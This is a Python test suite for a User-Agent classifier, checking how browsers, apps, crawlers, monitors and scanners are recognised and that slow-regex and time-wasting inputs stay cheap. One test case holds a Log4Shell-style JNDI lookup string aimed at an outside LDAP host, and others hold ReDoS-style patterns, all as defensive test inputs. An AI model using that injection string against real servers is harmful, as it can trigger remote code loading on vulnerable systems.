"""What a User-Agent says its sender is: people, apps, libraries, and every kind of machine, quickly and whatever was sent."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cfkit.lookups import agents
from cfkit.lookups.agent_patterns import of_pattern
from cfkit.lookups.agents import Agent, classify

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36"
PHONE = "Mozilla/5.0 (Linux; Android 15; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Mobile Safari/537.36"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "


def said(agent: str) -> Agent:
    return next(classify([agent]))


@pytest.mark.parametrize(
    ("agent", "kind", "family"),
    [
        (CHROME, "browser", "Chrome"),
        (CHROME + " Edg/145.0", "browser", "Edge"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "browser", "Firefox"),
        ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 "
         "Safari/604.1", "browser", "Safari"),
        (IPHONE + "Mobile/15E148", "app", "iOS web view"),
        (IPHONE + "Mobile/22D82 Twitter for iPhone/10.91", "app", "X app"),
        (IPHONE + "GSA/363.0 Mobile/15E148 Safari/604.1", "app", "Google app"),
        ("Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.16", "browser", "Opera"),
        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 3.5.30729)", "browser", "Internet Explorer"),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler", "Googlebot"),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; GPTBot/1.3; +https://openai.com/gptbot", "ai_crawler", "GPTBot"),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview", "facebookexternalhit"),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor", None),
        ("uptime-watch/3.4 (+https://watch.example)", "monitor", "uptime-watch"),
        ("UniversalFeedParser/4.2 +http://feedparser.org/", "feed_reader", "UniversalFeedParser"),
        ("curl/8.5.0", "library", "curl"),
        ("python-httpx/0.28.1", "library", "httpx (Python)"),
        ("APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io) terraform-provider-aws/5.70.0", "library", "Terraform"),
        ("Mozilla/5.0 (compatible; claudebot/1.0; +claudebot@anthropic.com)", "ai_crawler", "ClaudeBot"),
        ("python-requests/2.32.3", "library", "python-requests"),
        ("sqlmap/1.8#stable (https://sqlmap.org)", "scanner", "sqlmap"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "scanner", "nikto"),
        ("AcmeShop/5.11.2 (Android 13; SM-A546B) okhttp/4.12.0", "app", "AcmeShop"),
        ("okhttp/4.12.0", "library", "OkHttp"),
        ("AcmeShop/5090 CFNetwork/1568.300.101 Darwin/24.2.0", "app", "AcmeShop"),
        ("somebot/0.1", "crawler", "somebot"),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/120.0 Safari/537.36", "automation", "HeadlessChrome"),
        ("Amazon-Route53-Health-Check-Service (ref 1234; report http://amzn.to/1vsZADi)", "monitor", "Amazon Route 53 health check"),
        ("AcmeShop/2.1", "unknown", None),
        ("-", "none", None),
        (" ", "none", None),
        ("${jndi:ldap://198.51.100.77/a}", "unknown", None),
    ],
)  # fmt: skip
def test_an_agent_is_what_it_says_it_is(agent: str, kind: str, family: str | None) -> None:
    assert said(agent).kind == kind
    assert family is None or said(agent).family == family


@pytest.mark.parametrize(
    "agent",
    [
        CHROME + " hydration/1.0", CHROME + " katanas", "Mozilla/5.0 (Windows NT 10.0) rubyred Firefox/140.0", CHROME + " bottle/2",
        CHROME + " feedback/1.0",
    ],
)  # fmt: skip
def test_a_word_that_only_holds_a_tools_name_is_not_the_tool(agent: str) -> None:
    assert said(agent).kind == "browser"


@pytest.mark.parametrize("model", ["Pixel 8 Build/AP3A.240617.008", "CUBOT X50", "Cubot Note 30", "Katana 2"])
def test_a_persons_phone_is_no_machine_whatever_it_is_called(model: str) -> None:
    assert said(PHONE.format(model)) == Agent("browser", "Chrome")


@pytest.mark.parametrize(
    ("token", "family"),
    [("MetaIAB Facebook", "Facebook app"), ("Notion/4.2.0 Electron/33.2.1", "Electron app"), ("Code/1.115.0 Electron/39.8.5", "VS Code")],
)
def test_a_program_that_shows_pages_to_a_person_is_an_app(token: str, family: str) -> None:
    assert said(f"{CHROME} {token}") == Agent("app", family)
    assert said("Notion/1.0 (https://notion.so; team@makenotion.com)").kind == "preview"


def test_every_published_instance_of_a_crawler_is_recognised_and_no_browser_is() -> None:
    instances = [each for entry in agents._crawlers() for each in entry["instances"]]
    assert len(instances) > 2_000
    people = ("AP3A.240617.008", "MetaIAB Facebook", "Code/1.", "Trae/")  # those are people's own programs, whatever the package says
    missed = [
        each
        for each, agent in zip(instances, classify(instances), strict=True)
        if agent.kind in ("browser", "unknown", "none", "app") and not any(text in each for text in people)
    ]
    assert missed == []


def test_what_is_passed_over_is_still_in_the_package_and_our_kinds_are_kinds() -> None:
    published = {re.sub(r"\\(.)", r"\1", entry["pattern"]) for entry in agents._crawlers()}
    assert set(agents._own()["passed_over"]["patterns"]) <= published
    assert set(agents._own()) - {"passed_over"} <= set(agents.KINDS)
    assert {rule.kind for rule in agents.ranked()} <= set(agents.KINDS) | set(agents._SAYS)


# --- patterns -----------------------------------------------------------------------------------------------------------------


def matches(pattern: str, agent: str) -> bool:
    """Whether any rule of the pattern holds of the agent, asked at every place where its text stands."""
    places = [(rule, m.start(), m.end()) for rule in of_pattern(pattern, "", ()) or [] for m in re.finditer(re.escape(rule.needle), agent)]
    return any(rule.check is None or rule.check(agent, low, high) for rule, low, high in places)


ENTRIES = agents._crawlers()
ODD = [entry for entry in ENTRIES if re.search(r"[\^$|(\[*+?]", entry["pattern"])]


def test_every_pattern_of_the_package_is_asked() -> None:
    assert len(ENTRIES) > 1_400
    assert agents.left_out() == []


@given(st.sampled_from(ODD), st.sampled_from([each for entry in ODD for each in entry["instances"]]), st.data())
def test_a_rule_holds_where_its_pattern_matches_and_nowhere_else(entry: dict[str, str], agent: str, data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(agent)))
    for text in (agent, agent[cut:], agent[:cut], agent[cut:] + " " + agent[:cut]):
        assert matches(entry["pattern"], text) == (re.search(entry["pattern"], text) is not None)


@pytest.mark.parametrize(
    "pattern", ["(a+)+$", "(?:bot|spider)*x", r"Acme\w+\d+Bot", "(Acme.*)Bot", r"(Bot)\1", "Acme(?=Bot)", "Acme{2,}Bot"]
)
def test_a_pattern_that_could_read_an_agent_over_and_over_is_not_asked(pattern: str) -> None:
    assert of_pattern(pattern, "crawler", ()) is None


@pytest.mark.parametrize(
    "agent",
    [
        "7" * 1_000,
        "bot" * 400,
        "Rawler" * 200,
        "RSS Reader" + "Current" * 200,
        "spider.com" + "Spider" * 200,
        "a." * 500,
        "BlogTraffic/1.1" * 70,
    ],
)
def test_an_agent_made_to_cost_time_costs_little(agent: str) -> None:
    started = time.process_time()
    list(classify([agent] * 500))
    assert time.process_time() - started < 1, "more than 2 ms for one agent"


def test_a_hundred_thousand_agents_take_seconds_at_most() -> None:
    some = [CHROME.replace("145", str(number)) for number in range(100_000)]
    started = time.process_time()
    assert {agent.family for agent in classify(some)} == {"Chrome"}
    assert time.process_time() - started < 5


@given(st.text())
def test_anything_is_of_one_of_the_kinds(agent: str) -> None:
    assert said(agent).kind in agents.KINDS


@pytest.mark.parametrize("start", ["(" * 2_000, "a" * 2_000, "bot " * 500, CHROME + " " * 2_000])
def test_of_an_endless_agent_only_the_beginning_is_looked_at(start: str) -> None:
    assert said(start + " sqlmap/1.8 Googlebot/2.1" * 100_000) == said(start[: agents.LONGEST])
